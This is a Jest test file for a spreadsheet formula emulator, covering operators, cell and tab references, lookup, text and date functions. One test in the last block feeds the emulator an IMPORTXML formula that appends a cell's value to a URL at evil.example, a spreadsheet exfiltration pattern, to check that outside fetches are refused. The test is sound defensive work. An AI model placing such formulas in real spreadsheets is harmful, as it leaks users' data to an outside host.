import { evaluate } from '../../../emulator/formula/evaluate';
import { type Cells, tabOf, workbookOf } from './workbook-of';

/** Monday 2 March 2026, 08:30 in Shanghai. */
const NOW = Date.UTC(2026, 2, 2, 0, 30);

function resultOf(formula: string, cells: Cells = {}, others: Readonly<Record<string, Cells>> = {}): unknown {
  const workbook = workbookOf({ Home: cells, ...others });
  return evaluate(formula, { workbook, sheet: tabOf(workbook, 'Home'), row: 5, column: 10, now: NOW });
}

describe('operators', () => {
  test.each([
    ['=1+2*3', 7],
    ['=(1+2)*3', 9],
    ['=2^3^2', 64],
    ['=-2^2', 4],
    ['=10%', 0.1],
    ['=7/2', 3.5],
    ['=1/0', '#DIV/0!'],
    ['="a"&1&TRUE', 'a1TRUE'],
    ['="say ""hi"""', 'say "hi"'],
    ['=1=1', true],
    ['="A"="a"', true],
    ['=1<>2', true],
    ['=2>=3', false],
    ['="3"+1', 4],
    ['="x"+1', '#VALUE!'],
    ['=1<"a"', true],
  ])('%s', (formula, expected) => {
    expect(resultOf(formula)).toEqual(expected);
  });

  test('a sign of a sign', () => {
    expect(resultOf('=--TRUE')).toBe(1);
  });

  test('what is no formula is an error', () => {
    expect(resultOf('=+86 138 0013 8000')).toBe('#ERROR!');
    expect(resultOf('=1+')).toBe('#ERROR!');
    expect(resultOf('=(1')).toBe('#ERROR!');
  });
});

describe('references', () => {
  const cells: Cells = { A1: 1, A2: 2, A3: 'x', B1: '=A1+A2', J1: 9 };

  test('cells, chains of formulas and blanks', () => {
    expect(resultOf('=B1*10', cells)).toBe(30);
    expect(resultOf('=Z9', cells)).toBeNull();
    expect(resultOf('=Z9+1', cells)).toBe(1);
    expect(resultOf('=Z9=""', cells)).toBe(true);
  });

  test('other tabs, quoted and plain, in any case', () => {
    expect(resultOf("='My tab'!A1&Other!A1&OTHER!A1", {}, { 'My tab': { A1: 'm' }, Other: { A1: 'o' } })).toBe('moo');
    expect(resultOf('=Nowhere!A1')).toBe('#REF!');
  });

  test('open and dollar references', () => {
    expect(resultOf('=SUM(A:A)', cells)).toBe(3);
    expect(resultOf('=SUM(A2:A)', cells)).toBe(2);
    expect(resultOf('=SUM($A$1:$A$2)', cells)).toBe(3);
    expect(resultOf('=SUM(1:1)', cells)).toBe(13);
  });

  test('beyond the grid they are lost', () => {
    expect(resultOf('=A2000')).toBe('#REF!');
  });

  test('a circle is an error', () => {
    expect(resultOf('=A1', { A1: '=B1', B1: '=A1' })).toBe('#REF!');
  });

  test('a column where one value is wanted means the own row', () => {
    expect(resultOf('=A1:A9&"!"', { A5: 'mine' })).toBe('mine!');
  });

  test('a name that nobody gave is an error', () => {
    expect(resultOf('=nobody+1')).toBe('#NAME?');
  });
});

describe('functions', () => {
  const table: Cells = { A1: 'id', A2: 'L-2', A3: 'L-1', B2: 20, B3: 10, C2: 'open', C3: 'won', D2: true };

  test.each([
    ['=HYPERLINK("#gid=0&range=A"&MATCH("L-1";A:A;0);"→")', '→'],
    ['=HYPERLINK("https://a.example")', 'https://a.example'],
    ['=MATCH("l-1",A1:A3,0)', 3],
    ['=MATCH("L-9";A:A;0)', '#N/A'],
    ['=INDEX(B:B;MATCH("L-2";A:A;0))', 20],
    ['=INDEX(A2:C3;2;3)', 'won'],
    ['=VLOOKUP("L-1";A1:C3;3;FALSE)', 'won'],
    ['=IF(B2>15;"big";"small")', 'big'],
    ['=IF(FALSE;1)', false],
    ['=IFERROR(1/0;"none")', 'none'],
    ['=IFERROR(5;"none")', 5],
    ['=AND(TRUE;1)', true],
    ['=OR(FALSE;0)', false],
    ['=NOT(FALSE)', true],
    ['=ISBLANK(Z1)', true],
    ['=ISBLANK(A1)', false],
    ['=COUNTIF(C:C;"won")', 1],
    ['=COUNTIF(B2:B3;">=10")', 2],
    ['=COUNTIF(A:A;"L-*")', 2],
    ['=COUNTIF(C2:C4;"<>won")', 2],
    ['=COUNTIFS(A:A;"L-*";B:B;">15")', 1],
    ['=SUMIF(C:C;"open";B:B)', 20],
    ['=COUNTA(A:A)', 3],
    ['=SUM(B:B)', 30],
    ['=MAX(B:B)', 20],
    ['=MIN(B2:B3;5)', 5],
    ['=MAX(Z:Z)', 0],
    ['=AVERAGE(B:B)', 15],
    ['=AVERAGE(Z:Z)', '#DIV/0!'],
    ['=INT(-1.5)', -2],
    ['=ROUND(2.345;2)', 2.35],
    ['=N("leadbook")', 0],
    ['=N(D2)', 1],
    ['=LEFT("Leadbook";4)', 'Lead'],
    ['=LEN("abc")', 3],
    ['=MID("abcdef";2;3)', 'bcd'],
    ['=SEARCH("B";"abc")', 2],
    ['=SEARCH("z";"abc")', '#VALUE!'],
    ['=TEXT(0.256;"0.0%")', '25.6%'],
    ['=TEXT(DATE(2026;3;2);"yyyy-mm-dd")', '2026-03-02'],
    ['=SWITCH("b";"a";1;"b";2;3)', 2],
    ['=IFS(FALSE;1;TRUE;2)', 2],
    ['=INDIRECT("B"&2)', 20],
    ['=ROW()', 5],
    ['=COLUMN(C1)', 3],
  ])('%s', (formula, expected) => {
    expect(resultOf(formula, table)).toEqual(expected);
  });

  test('both separators may be mixed', () => {
    expect(resultOf('=IF(TRUE,1;2)')).toBe(1);
  });

  test('only the branch that counts is evaluated', () => {
    expect(resultOf('=IF(TRUE;1;NOT_A_FUNCTION(1))')).toBe(1);
  });
});

describe('dates', () => {
  const day = (iso: string): number => Math.round((Date.parse(`${iso}T00:00Z`) - Date.UTC(1899, 11, 30)) / 86_400_000);

  test('TODAY and NOW stand in the spreadsheet’s zone', () => {
    expect(resultOf('=TODAY()')).toBe(day('2026-03-02'));
    expect(resultOf('=NOW()')).toBeCloseTo(day('2026-03-02') + 8.5 / 24, 9);
  });

  test.each([
    ['=DATE(2026;2;30)', day('2026-03-02')],
    ['=WEEKDAY(DATE(2026;3;2))', 2],
    ['=WEEKDAY(DATE(2026;3;2);2)', 1],
    ['=WORKDAY(DATE(2026;3;6);1)', day('2026-03-09')],
    ['=WORKDAY(DATE(2026;3;9);-1)', day('2026-03-06')],
    ['=WORKDAY(DATE(2026;3;6);1;DATE(2026;3;9))', day('2026-03-10')],
    ['=NETWORKDAYS(DATE(2026;3;2);DATE(2026;3;8))', 5],
    ['=NETWORKDAYS(DATE(2026;3;8);DATE(2026;3;2))', -5],
    ['=EDATE(DATE(2026;1;31);1)', day('2026-02-28')],
    ['=EOMONTH(DATE(2024;2;1);0)', day('2024-02-29')],
    ['=YEAR(DATE(2026;3;2))*10000+MONTH(DATE(2026;3;2))*100+DAY(DATE(2026;3;2))', 20260302],
  ])('%s', (formula, expected) => {
    expect(resultOf(formula)).toBe(expected);
  });
});

describe('what is not computed', () => {
  test('functions that fetch from outside give #REF!', () => {
    expect(resultOf('=IMPORTXML("https://evil.example/?"&A1;"//a")')).toBe('#REF!');
  });

  test('an unknown function is a gap of the emulator, never a guess', () => {
    expect(() => resultOf('=QUERY(A:A;"select A")')).toThrow('The formula function QUERY is not emulated');
  });
});
